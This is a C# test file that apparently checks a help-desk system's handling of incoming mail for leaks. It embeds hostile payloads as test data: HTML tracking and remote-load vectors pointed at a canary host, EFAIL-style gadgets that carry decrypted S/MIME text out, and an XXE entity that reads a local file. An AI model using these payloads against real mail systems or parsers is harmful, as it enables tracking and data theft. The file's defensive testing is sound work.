using System.Net;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Beistand.Channels.Mail.Inbound;
using Beistand.Channels.Mail.Managing;
using Beistand.Desk.Tickets;
using Beistand.Kernel;
using Microsoft.EntityFrameworkCore;
using MimeKit;

namespace Beistand.Attacks;

/// <summary>D26, D34, D35: a mail that is read tells nobody that it was, and carries nothing out.</summary>
public sealed class IncomingMailAttacks
{
    private const string Canary = "kanarie.example", Secret = "Das Kennwort ist Sommerregen";

    private const string Trackers = """
        <html><head><link rel="prefetch" href="http://kanarie.example/1"><link rel="stylesheet" href="//kanarie.example/2"><meta http-equiv="refresh" content="0;url=http://kanarie.example/3"><base href="http://kanarie.example/">
        <style>@import url(http://kanarie.example/4); @font-face { font-family: x; src: url(http://kanarie.example/5) } p { background: url("http://kanarie.example/6") }</style></head>
        <body background="http://kanarie.example/7"><p style="background-image:url(http://kanarie.example/8)">Lesbarer Text</p><img src="http://kanarie.example/9"><img src="//kanarie.example/10"><img srcset="http://kanarie.example/11 2x">
        <picture><source srcset="//kanarie.example/12"><img src="x"></picture><video poster="http://kanarie.example/13" src="http://kanarie.example/14"></video><audio src="http://kanarie.example/15"></audio>
        <a href="http://kanarie.example/16" ping="http://kanarie.example/17">Verweis</a><table background="http://kanarie.example/18"><tr><td background="//kanarie.example/19">Zelle</td></tr></table>
        <object data="http://kanarie.example/20"></object><embed src="http://kanarie.example/21"><iframe src="http://kanarie.example/22"></iframe><input type="image" src="http://kanarie.example/23"><svg><image href="http://kanarie.example/24" /><use href="http://kanarie.example/25" /></svg></body></html>
        """;

    [Fact]
    public async Task D35_no_page_fetches_anything_a_mail_names()
    {
        Assert.True(Loads(Trackers).Count > 20, "the scan itself must see them");
        await using var house = await House.Open("sqlite", start: true);
        var number = await Arrive(house, Postman.Letter("Verfolgt", "<v@privat.example>", "Content-Type: multipart/mixed; boundary=b\r\n", $"--b\r\nContent-Type: text/html\r\n\r\n{Trackers}\r\n--b\r\nContent-Type: text/html\r\n\r\n{Trackers}\r\n--b--"));
        foreach (var page in await Pages(house, number))
        {
            Assert.Contains("Lesbarer Text", page, StringComparison.Ordinal);
            Assert.Empty(Loads(page));
        }
    }

    [Theory]
    [InlineData("<img src=\"http://kanarie.example/", "\">")]
    [InlineData("<a href=\"http://kanarie.example/", "\">weiter</a>")]
    [InlineData("<style>@import url('http://kanarie.example/", "');</style>")]
    [InlineData("<form action=\"http://kanarie.example/\"><textarea name=x>", "</textarea><input type=submit>")]
    [InlineData("<iframe srcdoc='<img src=http://kanarie.example/", "'></iframe>")]
    public async Task D34_what_was_encrypted_flows_into_nothing_that_stands_around_it(string before, string after)
    {
        await using var house = await House.Open("sqlite", start: true);
        using var ours = Sealing.Certificate("support@astina-service.example", "AsTiNA");
        await house.In<ManageMailKeys, Outcome>(async m => await m.Add(await house.As(house.Company.Admin.Id), Sealing.P12(ours), Sealing.Password, default));
        var plain = await Arrive(house, Sealing.Mail(new Multipart("mixed") { Sealing.Html(before), Sealing.Encrypted(Sealing.Plain(Secret), ours), Sealing.Html(after) }));
        var marked = await Arrive(house, Sealing.Mail(new Multipart("mixed") { Sealing.Html(before), Sealing.Encrypted(Sealing.Html($"<p>{Secret}</p>"), ours), Sealing.Html(after) }));
        // A changed block turns the start of the text into HTML of the attacker's: without proof none of it is HTML.
        var gadget = await Arrive(house, Sealing.Mail(Sealing.Encrypted(Sealing.Html($"{before}{Secret}{after}"), ours)));
        var readable = (await Pages(house, plain)).Concat(await Pages(house, marked)).ToList();
        Assert.All(readable, page => Assert.Contains(Secret, new HtmlParser().ParseDocument(page).Body!.TextContent, StringComparison.Ordinal));
        foreach (var page in readable.Concat(await Pages(house, gadget)))
        {
            var document = new HtmlParser().ParseDocument(page);
            Assert.Empty(Loads(page));
            Assert.DoesNotContain(document.All, e => e.Attributes.Any(a => a.Value.Contains("Sommerregen", StringComparison.Ordinal)));
            Assert.DoesNotContain(document.All, e => e.TagName is "TEXTAREA" or "A" && e.TextContent.Contains("Sommerregen", StringComparison.Ordinal));
        }
        Assert.Null((await house.Ticket(gadget)).Messages.Single().Html);

        // Proved by a signature inside, its HTML is shown: the words above are plain because of the missing proof.
        using var petra = Sealing.Certificate("petra@kunde.example");
        var proved = await Arrive(house, Sealing.Mail(Sealing.Encrypted(Sealing.Signed(Sealing.Html($"<p><b>{Secret}</b></p>"), petra), ours)));
        Assert.Contains($"<b>{Secret}</b>", (await house.Ticket(proved)).Messages.Single().Html, StringComparison.Ordinal);
    }

    [Fact]
    public async Task D26_entities_in_files_are_letters()
    {
        var file = Path.GetTempFileName();
        await File.WriteAllTextAsync(file, "GEHEIM-AUS-DATEI");
        var evil = $"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"file://{file}\"><!ENTITY b \"bbbbbbbbbb\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]><x>&a;&c;</x>";
        Assert.Contains("GEHEIM-AUS-DATEI", Believed(evil), StringComparison.Ordinal);
        await using var house = await House.Open("sqlite", start: true);
        var number = await Arrive(house, Postman.Letter("Dateien", "<xxe@privat.example>", "Content-Type: multipart/mixed; boundary=b\r\n", string.Concat(
            ((string[])["image/svg+xml; name=a.svg", "application/xml; name=a.xml", "text/xml; name=b.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document; name=a.docx"]).Select(t => $"--b\r\nContent-Type: {t}\r\n\r\n{evil}\r\n"))
            + $"--b\r\nContent-Type: text/xml\r\n\r\n{evil}\r\n--b\r\nContent-Type: text/calendar\r\n\r\nBEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:&a; {evil.Replace("\n", "", StringComparison.Ordinal)[..60]}\r\nATTACH:file://{file}\r\nDTSTART:20261201T100000Z\r\nRRULE:FREQ=SECONDLY;COUNT=2000000000\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n--b--"));
        var message = (await house.Ticket(number)).Messages.Single();
        Assert.Equal(5, await house.Ask(db => db.Attachments.CountAsync()));
        Assert.StartsWith("&a;", Assert.Single(message.Extras!.Invitations!).Subject, StringComparison.Ordinal);
        foreach (var page in await Pages(house, number)) Assert.DoesNotContain("GEHEIM-AUS-DATEI", page, StringComparison.Ordinal);
        File.Delete(file);
    }

    /// <summary>What a reader makes of the bait that follows its entities.</summary>
    private static string Believed(string xml)
    {
#pragma warning disable CA3075 // The attack must be one.
        using var reader = System.Xml.XmlReader.Create(new StringReader(xml), new() { DtdProcessing = System.Xml.DtdProcessing.Parse, XmlResolver = new System.Xml.XmlUrlResolver() });
#pragma warning restore CA3075
        return System.Xml.Linq.XDocument.Load(reader).Root!.Value;
    }

    /// <summary>Everything on a page that would be fetched from the canary without anybody's click.</summary>
    private static List<string> Loads(string html)
    {
        var document = new HtmlParser().ParseDocument(html);
        return document.All.SelectMany(e => e.Attributes.Where(a => a.Value.Contains(Canary, StringComparison.Ordinal) && !(e.TagName == "A" && a.Name == "href")).Select(a => $"{e.TagName} {a.Name}={a.Value}"))
            .Concat(document.QuerySelectorAll("style").Where(s => s.TextContent.Contains(Canary, StringComparison.Ordinal)).Select(_ => "style")).ToList();
    }

    private static async Task<string> Arrive(House house, byte[] mail)
    {
        await house.Deliver(mail);
        var raw = await house.Ask(db => db.Set<RawMail>().AsNoTracking().OrderBy(m => m.Id).LastAsync());
        Assert.True(raw.TicketNumber is not null, raw.Reason);
        return raw.TicketNumber;
    }

    // As the agent and as the customer read it.
    private static async Task<List<string>> Pages(House house, string number)
    {
        using var keller = await house.VisitorAs(house.Company.Keller);
        var requester = await house.Ask(db => db.Tickets.Where(t => t.Number == number).Select(t => t.Requester).SingleAsync());
        using var customer = await house.VisitorAs(requester);
        return [await keller.Read($"/tickets/{number}"), await customer.Read($"/anliegen/{number}")];
    }
}
